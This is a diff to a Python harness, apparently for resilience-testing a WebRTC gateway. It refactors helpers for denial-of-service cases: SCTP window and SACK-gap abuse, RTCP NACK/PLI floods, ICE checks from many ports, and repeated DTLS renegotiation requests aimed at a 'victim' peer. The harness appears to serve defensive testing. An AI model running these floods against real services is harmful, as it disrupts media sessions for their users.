@@ -63,6 +63,20 @@ def closed(peer: Peer) -> bool:
     return peer.pc.connectionState in ("closed", "failed") or peer.channel.readyState == "closed"
 
 
+def ended(peer: Peer, how: str = "") -> str:
+    """What became of the attacker's connection, for a case's outcome (`how`: after what the gateway closed it)."""
+    return f"its connection closed by the gateway{how}" if closed(peer) else "its connection still open"
+
+
+async def ask_renegotiation(dtls) -> None:
+    """Send the peer of `dtls` (an aiortc DTLS transport whose side is the DTLS server) a HelloRequest: a new handshake.
+    SSL.Error once the peer has refused one (OpenSSL takes its no_renegotiation alert as fatal)."""
+    dtls._ssl.renegotiate()
+    with contextlib.suppress(SSL.WantReadError):
+        dtls._ssl.do_handshake()
+    await dtls._write_ssl()
+
+
 async def unfinished_message(http, victim, *, size: int, hole: bool, seconds: float, rate: float) -> str:
     peer = Peer()
     status, text = await peer.connect(http)
@@ -73,10 +87,9 @@ async def unfinished_message(http, victim, *, size: int, hole: bool, seconds: fl
     deadline = time.monotonic() + 5  # a gateway that closes it at the last chunk
     while not closed(peer) and time.monotonic() < deadline:
         await asyncio.sleep(0.1)
-    ended = (f"its connection closed by the gateway after {sent} chunks ({took:.1f} s)" if closed(peer) else
-             "its connection still open")
+    outcome = ended(peer, f" after {sent} chunks ({took:.1f} s)")
     await peer.pc.close()
-    return f"{sent} chunks of {size} bytes ({sent * size / 2**20:.1f} MiB) in {took:.1f} s; {ended}"
+    return f"{sent} chunks of {size} bytes ({sent * size / 2**20:.1f} MiB) in {took:.1f} s; {outcome}"
 
 
 async def sctp_past_window(http, victim, seconds: float = 20.0, rate: float = 1000.0) -> str:
@@ -108,9 +121,9 @@ async def sctp_sack_gaps(http, victim, seconds: float = 20.0, per_second: float 
         sent += 1
         await asyncio.sleep(1 / per_second)
     took = time.monotonic() - t0
-    ended = "its connection closed by the gateway" if closed(peer) else "its connection still open"
+    outcome = ended(peer)
     await peer.pc.close()
-    return f"{sent} SACKs of {gaps} gap blocks ({len(bytes(sack))} bytes each) in {took:.1f} s; {ended}"
+    return f"{sent} SACKs of {gaps} gap blocks ({len(bytes(sack))} bytes each) in {took:.1f} s; {outcome}"
 
 
 class VideoSeen:
@@ -157,10 +170,10 @@ async def rtcp_flood(http, make: Callable[[VideoSeen], bytes], seconds: float, p
         await asyncio.sleep(max(0.0, t0 + sent / per_second - time.monotonic()))
     took = time.monotonic() - t0
     rate = (video.packets - before) / took
-    ended = "its connection closed by the gateway" if closed(peer) else "its connection still open"
+    outcome = ended(peer)
     await peer.pc.close()
     return (f"{sent} RTCP packets of {len(packet)} bytes in {took:.1f} s; it received {rate:.0f} video packets a "
-            f"second ({calm:.0f} before); {ended}")
+            f"second ({calm:.0f} before); {outcome}")
 
 
 async def rtcp_nacks(http, victim, seconds: float = 20.0, per_second: float = 10.0) -> str:
@@ -204,9 +217,9 @@ async def ice_new_addresses(http, victim, seconds: float = 20.0, per_second: flo
         if sent % 10 == 0:
             await asyncio.sleep(max(0.0, t0 + sent / per_second - time.monotonic()))
     took = time.monotonic() - t0
-    ended = "its connection closed by the gateway" if closed(peer) else "its connection still open"
+    outcome = ended(peer)
     await peer.pc.close()
-    return f"{sent} connectivity checks from as many source ports in {took:.1f} s; {ended}"
+    return f"{sent} connectivity checks from as many source ports in {took:.1f} s; {outcome}"
 
 
 async def dtls_renegotiations(http, victim, seconds: float = 20.0) -> str:
@@ -221,10 +234,7 @@ async def dtls_renegotiations(http, victim, seconds: float = 20.0) -> str:
     t0, asked, completed, refused = time.monotonic(), 0, 0, ""
     while time.monotonic() - t0 < seconds and not closed(peer) and not refused:
         try:
-            dtls._ssl.renegotiate()
-            with contextlib.suppress(SSL.WantReadError):
-                dtls._ssl.do_handshake()
-            await dtls._write_ssl()
+            await ask_renegotiation(dtls)
             asked += 1
             t = time.monotonic()
             while dtls._ssl.renegotiate_pending() and time.monotonic() - t < 1.0:
@@ -235,10 +245,10 @@ async def dtls_renegotiations(http, victim, seconds: float = 20.0) -> str:
         except SSL.Error:
             refused = "; refused by the gateway (its OpenSSL broke on the no_renegotiation alert)"
     took = time.monotonic() - t0
-    ended = "its connection closed by the gateway" if closed(peer) else "its connection still open"
+    outcome = ended(peer)
     with contextlib.suppress(SSL.Error):
         await peer.pc.close()
-    return f"{asked} renegotiations asked, {completed} completed ({completed / took:.0f} a second){refused}; {ended}"
+    return f"{asked} renegotiations asked, {completed} completed ({completed / took:.0f} a second){refused}; {outcome}"
 
 
 CASES = (sctp_past_window, sctp_past_hole, sctp_empty_chunks, sctp_sack_gaps, rtcp_nacks, rtcp_plis, ice_new_addresses,
